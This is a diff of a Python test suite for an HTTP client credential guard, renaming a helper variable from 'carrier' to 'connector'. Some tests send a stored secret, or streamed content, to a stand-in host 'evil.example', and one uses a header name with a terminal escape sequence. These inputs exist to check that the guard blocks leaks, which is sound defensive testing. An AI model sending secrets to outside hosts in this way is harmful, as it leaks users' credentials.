@@ -94,20 +94,25 @@ class Trap:
 
 
 def call(
-    is_async: bool, profile: Profile, carrier: InProcess, redactor: Redactor, act: Callable[[Any], Any], **options: Any
+    is_async: bool,
+    profile: Profile,
+    connector: InProcess,
+    redactor: Redactor,
+    act: Callable[[Any], Any],
+    **options: Any,
 ) -> Exception | None:
     """Do something with a client of either kind, and give the error it ended with."""
-    allowed = (GuardError, carrier.library.request_error, carrier.library.invalid_url)
+    allowed = (GuardError, connector.library.request_error, connector.library.invalid_url)
 
     async def main() -> None:
-        async with build_async_client(profile, carrier, redactor, **options) as client:
+        async with build_async_client(profile, connector, redactor, **options) as client:
             await act(client)
 
     try:
         if is_async:
             asyncio.run(main())
         else:
-            with build_client(profile, carrier, redactor, **options) as client:
+            with build_client(profile, connector, redactor, **options) as client:
                 act(client)
     except allowed as error:
         return error
@@ -209,8 +214,8 @@ def test_a_direct_request_elsewhere_is_stopped(library: str, url: str, is_async:
     redactor = Redactor()
     profile, user = user_of("key-and-bearer", redactor)
     trap = Trap(profile)
-    carrier = InProcess(library, trap.handle)
-    error = call(is_async, profile, carrier, redactor, lambda client: client.get(url), authenticator=user)
+    connector = InProcess(library, trap.handle)
+    error = call(is_async, profile, connector, redactor, lambda client: client.get(url), authenticator=user)
 
     assert isinstance(error, GuardError)
     assert url.partition("/v1")[0].removesuffix("/x") in str(error)
@@ -258,9 +263,9 @@ def test_every_part_of_a_request_is_looked_at(library: str, options: dict[str, A
 def test_a_stranger_may_be_asked_without_credentials(library: str, url: str) -> None:
     """What carries nothing secret may go anywhere."""
     trap = Trap(shop())
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
 
-    assert call(False, shop(), carrier, Redactor(), lambda client: client.get(url)) is None
+    assert call(False, shop(), connector, Redactor(), lambda client: client.get(url)) is None
     assert [url] == [request.url for request in trap.arrived]
 
 
@@ -279,9 +284,9 @@ def test_the_profiles_own_origins_get_the_credentials(library: str, profile: Pro
     redactor = Redactor()
     trap = Trap(profile)
     user = authenticator(profile, redactor=redactor)
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
 
-    assert call(False, profile, carrier, redactor, lambda client: client.get(url), authenticator=user) is None
+    assert call(False, profile, connector, redactor, lambda client: client.get(url), authenticator=user) is None
     assert trap.arrived[0].header("x-api-key") == "value-of-credentials.api_key"
 
 
@@ -296,8 +301,8 @@ def test_a_token_request_in_clear_is_stopped(library: str) -> None:
         return Response(200)
 
     user = authenticator(profile, redactor=redactor)
-    carrier = InProcess(library, handle)
-    error = call(False, profile, carrier, redactor, lambda client: client.get("/user/me"), authenticator=user)
+    connector = InProcess(library, handle)
+    error = call(False, profile, connector, redactor, lambda client: client.get("/user/me"), authenticator=user)
 
     assert isinstance(error, GuardError)
     assert "would travel to http://login.example.org in clear; use https" in str(error)
@@ -308,9 +313,9 @@ def test_a_token_request_in_clear_is_stopped(library: str) -> None:
 def test_a_live_client_does_not_write(library: str, method: str) -> None:
     """Without leave, only safe methods are sent; the line says how to get leave."""
     trap = Trap(shop())
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
     act = lambda client: client.request(method, "/user/me")  # noqa: E731
-    error = call(False, shop(), carrier, Redactor(), act, allow_unsafe=False)
+    error = call(False, shop(), connector, Redactor(), act, allow_unsafe=False)
 
     if method == "get":
         assert error is None
@@ -325,10 +330,10 @@ def test_a_live_client_may_read_and_ask_for_tokens(library: str) -> None:
     redactor = Redactor()
     trap = Trap(shop())
     user = authenticator(redactor=redactor)
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
     act = lambda client: [client.request(method, "/user/me") for method in ("GET", "HEAD", "OPTIONS")]  # noqa: E731
 
-    assert call(False, shop(), carrier, redactor, act, authenticator=user, allow_unsafe=False) is None
+    assert call(False, shop(), connector, redactor, act, authenticator=user, allow_unsafe=False) is None
     assert len(trap.arrived) == 3
 
 
@@ -337,9 +342,9 @@ def test_another_target_is_another_place(library: str, target: bytes) -> None:
     """A POST whose target is another one than the token endpoint's is a POST to another place."""
     profile = shop()
     trap = Trap(profile)
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
     act = lambda client: client.post(profile.token_endpoint, extensions={"target": target})  # noqa: E731
-    error = call(False, profile, carrier, Redactor(), act, allow_unsafe=False)
+    error = call(False, profile, connector, Redactor(), act, allow_unsafe=False)
 
     assert isinstance(error, GuardError)
 
@@ -399,20 +404,20 @@ def test_an_extension_makes_no_other_place(
 def test_a_live_client_does_not_write_through_a_transport_of_its_own(library: str, is_async: bool) -> None:
     """A transport that makes another method of a request is behind the guard like any other."""
     trap = Trap(shop())
-    carrier = InProcess(library, trap.handle)
+    connector = InProcess(library, trap.handle)
 
     def around(inner: Any) -> Any:
         def handle(self: Any, request: Any) -> Any:
             request.method = "DELETE"
             return inner.handle_async_request(request) if is_async else inner.handle_request(request)
 
-        base = carrier.library.module.AsyncBaseTransport if is_async else carrier.library.module.BaseTransport
+        base = connector.library.module.AsyncBaseTransport if is_async else connector.library.module.BaseTransport
         return type("Deleting", (base,), {"handle_async_request" if is_async else "handle_request": handle})()
 
     error = call(
         is_async,
         shop(),
-        carrier,
+        connector,
         Redactor(),
         lambda client: client.get("/x"),
         transport=around,
@@ -429,9 +434,9 @@ def test_a_name_that_would_obey_a_terminal_is_told_plainly(library: str, is_asyn
     redactor = Redactor()
     redactor.learn("hidden-value", "shop.api_key")
     headers = {b"x\x1b[2J\nx": b"hidden-value"}
-    carrier = InProcess(library, Trap(shop()).handle)
+    connector = InProcess(library, Trap(shop()).handle)
     act = lambda client: client.get("https://evil.example/", headers=headers)  # noqa: E731
-    error = call(is_async, shop(), carrier, redactor, act)
+    error = call(is_async, shop(), connector, redactor, act)
 
     assert isinstance(error, GuardError)
     assert str(error).isprintable()
@@ -456,8 +461,8 @@ def test_a_stream_that_is_stopped_leaves_nothing_open(library: str, backend: str
         raise ZeroDivisionError
 
     async def main() -> None:
-        carrier = InProcess(library, refuse)
-        async with build_async_client(shop(), carrier, redactor) as client:
+        connector = InProcess(library, refuse)
+        async with build_async_client(shop(), connector, redactor) as client:
             with pytest.raises((GuardError, ZeroDivisionError)):
                 await client.post("https://evil.example/", content=pieces())
 
